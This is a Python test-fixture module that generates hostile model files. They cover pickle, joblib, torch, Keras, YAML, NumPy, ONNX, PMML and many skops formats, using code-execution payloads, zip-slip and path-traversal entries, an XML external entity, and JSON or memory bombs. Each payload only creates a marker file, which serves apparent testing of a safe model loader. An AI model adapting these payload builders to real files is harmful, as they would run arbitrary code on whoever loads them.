"""Files that attack whoever loads them, made on the spot: each would leave a marker file if anything in it were run."""

import base64
import builtins
import gzip
import importlib
import io
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, Final

import numpy as np


def bite(marker: Path) -> str:
    """What every one of them wants to run."""
    return f"open({str(marker)!r}, 'w').close()"


class Evil:
    """Runs a line of Python wherever it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.line = bite(marker)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return builtins.exec, (self.line,)


def zipped(members: Mapping[str, bytes], *, compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def pickled(marker: Path) -> bytes:
    return pickle.dumps(Evil(marker), 4)


def pickled_text(marker: Path) -> bytes:
    return pickle.dumps(Evil(marker), 0)


def joblib_file(marker: Path) -> bytes:
    buffer = io.BytesIO()
    importlib.import_module("joblib").dump({"model": Evil(marker)}, buffer)
    return buffer.getvalue()


def joblib_compressed(marker: Path) -> bytes:
    return gzip.compress(joblib_file(marker))


def cloudpickled(marker: Path) -> bytes:
    class Model:
        def __reduce__(self) -> tuple[Any, tuple[()]]:
            return (lambda: Path(marker).touch()), ()

    return importlib.import_module("cloudpickle").dumps(Model())


def torch_archive(marker: Path) -> bytes:
    return zipped({"archive/data.pkl": pickled(marker), "archive/version": b"3\n", "archive/data/0": b"\0" * 8})


def lambda_layer(marker: Path) -> dict[str, Any]:
    code = base64.b64encode(marshal.dumps(compile(bite(marker), "layer", "exec"))).decode()
    return {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": [code, None, None]}}]}}


def keras_archive(marker: Path) -> bytes:
    return zipped(
        {"config.json": json.dumps(lambda_layer(marker)).encode(), "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}
    )


def keras_h5(marker: Path) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + json.dumps(lambda_layer(marker)).encode()


def mlmodel(marker: Path) -> bytes:
    return f"flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    data: {marker}\n".encode()


def unsafe_yaml(marker: Path) -> bytes:
    return f"!!python/object/apply:builtins.exec [{bite(marker)!r}]\n".encode()


def python_source(marker: Path) -> bytes:
    return bite(marker).encode()


def zip_slip(marker: Path) -> bytes:
    return zipped({f"../../../../../../../../..{marker}": b"slipped"})


def xml_entity(marker: Path) -> bytes:
    return f'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{marker}">]><PMML>&x;</PMML>'.encode()


def object_array(marker: Path) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([Evil(marker)], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def object_array_of_the_right_length(marker: Path) -> bytes:
    content = pickled(marker)
    content += b"." * (-len(content) % 8)
    return header(f"({len(content) // 8},)", "|O") + content


def object_arrays(marker: Path) -> bytes:
    return zipped({"weights.npy": object_array(marker)})


def header(shape: str, dtype: str = "<f8") -> bytes:
    text = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}\n".encode()
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text


def long_header(marker: Path) -> bytes:
    del marker
    return b"\x93NUMPY\x02\x00" + (2**31).to_bytes(4, "little") + b"{" + b" " * 100_000


def array_beyond_memory(marker: Path) -> bytes:
    del marker
    return header("(1000000000000,)") + b"\0" * 64


def header_that_is_code(marker: Path) -> bytes:
    return header(f"({bite(marker)},)")


def json_bomb(marker: Path) -> bytes:
    del marker
    return b'{"a":' * 100_000 + b"1" + b"}" * 100_000


def booster_that_is_a_pickle(marker: Path) -> bytes:
    return b"tree\n" + pickled_text(marker)


def ubj_that_is_a_pickle(marker: Path) -> bytes:
    return b"{" + pickled(marker)


def onnx_external_data(marker: Path) -> bytes:
    where = f"../../../../../..{marker}".encode()
    said = b"\x0a\x08location\x12" + bytes([len(where)]) + where
    tensor = b"\x08\x03\x10\x01\x42\x01W\x6a" + bytes([len(said)]) + said + b"\x70\x01"
    graph = b"\x2a" + bytes([len(tensor)]) + tensor
    return b"\x08\x08\x3a" + bytes([len(graph) % 128 | 128, len(graph) // 128]) + graph


def node(loader: str, name: str, **more: object) -> dict[str, Any]:
    module, _, kind = name.rpartition(".")
    return {"__class__": kind, "__module__": module, "__loader__": loader, **more}


def text(value: object) -> dict[str, Any]:
    return node("JsonNode", "builtins.str", content=json.dumps(value), is_json=True)


def listed(*items: object) -> dict[str, Any]:
    return node("TupleNode", "builtins.tuple", content=list(items))


def mapped(**items: object) -> dict[str, Any]:
    keys = node("ListNode", "builtins.list", content=[node("TypeNode", "builtins.str") for _ in items])
    return node("DictNode", "builtins.dict", content=items, key_types=keys)


def archive(
    schema: Mapping[str, object], members: Mapping[str, bytes] | None = None, *, protocol: object = 2, compression: int = zipfile.ZIP_STORED
) -> bytes:
    content = json.dumps({**schema, "protocol": protocol, "_skops_version": "0.16.0"}).encode()
    return zipped({"schema.json": content, **(members or {})}, compression=compression)


def transformer(function: object) -> dict[str, Any]:
    return node("ObjectNode", "sklearn.preprocessing._function_transformer.FunctionTransformer", content=mapped(func=function))


def called(marker: Path) -> dict[str, Any]:
    """A node that calls as it is built, for whoever believes it."""
    return node("ConstructorFromReduceNode", "builtins.exec", content=listed(text(bite(marker))))


def generator(name: str) -> dict[str, Any]:
    content = {"bit_generator": mapped(bit_generator=text(name)), "seed_seq": mapped(entropy=text(1))}
    return node("RandomGeneratorNode", "numpy.random._generator.Generator", content=content)


def two_schemas(marker: Path) -> bytes:
    good, bad = (archive(schema) for schema in (transformer(text(None)), called(marker)))
    buffer = io.BytesIO(good)
    with zipfile.ZipFile(io.BytesIO(bad)) as other, zipfile.ZipFile(buffer, "a") as one:
        one.writestr("schema_json", other.read("schema.json"))
    return buffer.getvalue().replace(b"schema_json", b"schema.json")


SKOPS: Final[Mapping[str, Callable[[Path], bytes]]] = {
    "skops of a hostile type": lambda marker: archive(called(marker)),
    "skops of a hostile function": lambda marker: archive(transformer(node("FunctionNode", "posix.system")) | {"x": str(marker)}),
    "skops of a process": lambda marker: archive(node("ObjectNode", "subprocess.Popen", content=mapped(args=text(["touch", str(marker)])))),
    "skops with a partial": lambda marker: archive(
        node(
            "PartialNode",
            "functools.partial",
            content={"func": called(marker), "args": listed(), "kwds": mapped(), "namespace": text(None)},
        )
    ),
    "skops with a method": lambda marker: archive(
        node("MethodNode", "pathlib.PosixPath", content={"func": "touch", "obj": node("ObjectNode", "pathlib.PosixPath", x=str(marker))})
    ),
    "skops with a method of a trusted type": lambda marker: archive(
        node(
            "MethodNode",
            "sklearn.linear_model._ridge.Ridge",
            content={"func": "fit", "obj": node("ObjectNode", "sklearn.linear_model._ridge.Ridge", content=mapped(x=text(str(marker))))},
        )
    ),
    "skops with an operator": lambda marker: archive(node("OperatorFuncNode", "operator.methodcaller", attrs=listed(text(str(marker))))),
    "skops with a foreign constructor": lambda marker: archive(
        node("LossNode", "builtins.exec", content=mapped(), __reduce__={"args": listed(text(bite(marker)))})
    ),
    "skops with a random generator that is a function": lambda marker: archive(transformer(generator("seed")) | {"x": str(marker)}),
    "skops of an older protocol": lambda marker: archive(called(marker), protocol=0),
    "skops of no protocol": lambda marker: archive(called(marker), protocol=True),
    "skops with two schemas": two_schemas,
    "skops with a member outside": lambda marker: archive(transformer(text(None)), {f"../../..{marker}": b"slipped"}),
    "skops with a pickle inside": lambda marker: archive(
        node("NdArrayNode", "numpy.ndarray", type="numpy", file="0" * 64 + ".npy"), {"0" * 64 + ".npy": object_array(marker)}
    ),
    "skops compressed to nothing": lambda marker: archive(
        transformer(text(str(marker))), {"0" * 64 + ".npy": b"\0" * 10_000_000}, compression=zipfile.ZIP_DEFLATED
    ),
    "skops nested too deep": lambda marker: zipped({"schema.json": json_bomb(marker)}),
}

CORPUS: Final[Mapping[str, tuple[str, Callable[[Path], bytes]]]] = {
    "pickle": ("model.pkl", pickled),
    "pickle as text": ("model.pickle", pickled_text),
    "joblib": ("model.joblib", joblib_file),
    "joblib compressed": ("model.joblib.gz", joblib_compressed),
    "cloudpickle": ("python_model.pkl", cloudpickled),
    "torch archive": ("model.pt", torch_archive),
    "keras archive with a lambda layer": ("model.keras", keras_archive),
    "keras file with a lambda layer": ("model.h5", keras_h5),
    "MLmodel with a foreign loader": ("MLmodel", mlmodel),
    "yaml that calls": ("model.yaml", unsafe_yaml),
    "python source": ("lightgbm.py", python_source),
    "zip slip": ("model.zip", zip_slip),
    "xml with an entity": ("model.pmml", xml_entity),
    "array of objects": ("weights.npy", object_array),
    "array of objects of the right length": ("weights.npy", object_array_of_the_right_length),
    "arrays of objects": ("weights.npz", object_arrays),
    "array with a header without end": ("weights.npy", long_header),
    "array larger than memory": ("weights.npy", array_beyond_memory),
    "array whose header is code": ("weights.npy", header_that_is_code),
    "json nested too deep": ("model.json", json_bomb),
    "lightgbm text that is a pickle": ("model.lgb.txt", booster_that_is_a_pickle),
    "ubj that is a pickle": ("model.ubj", ubj_that_is_a_pickle),
    "onnx with data outside": ("model.onnx", onnx_external_data),
    **{what: ("model.skops", made) for what, made in SKOPS.items()},
}
"""What it is -> the name that it goes by, and how it is made."""

BITES: Final[Mapping[str, str]] = {
    "pickle": "pickle.loads(content)",
    "pickle as text": "pickle.loads(content)",
    "joblib": "joblib.load(io.BytesIO(content))",
    "joblib compressed": "joblib.load(io.BytesIO(content))",
    "cloudpickle": "pickle.loads(content)",
    "torch archive": "pickle.loads(zipfile.ZipFile(io.BytesIO(content)).read('archive/data.pkl'))",
    "yaml that calls": "yaml.unsafe_load(content)",
    "python source": "exec(content)",
    "array of objects": "numpy.load(io.BytesIO(content), allow_pickle=True)",
    "array of objects of the right length": "numpy.load(io.BytesIO(content), allow_pickle=True)",
    "arrays of objects": "numpy.load(io.BytesIO(content), allow_pickle=True)['weights']",
    "skops of a hostile type": "skops.io.loads(content, trusted=['builtins.exec'])",
    "skops with a partial": "skops.io.loads(content, trusted=['builtins.exec', 'functools.partial'])",
    "skops of an older protocol": "skops.io.loads(content, trusted=['builtins.exec'])",
    "skops with two schemas": "skops.io.loads(content, trusted=['builtins.exec'])",
}
"""The careless call that each of these was made for; the others need a library that is not here, or kill rather than run."""
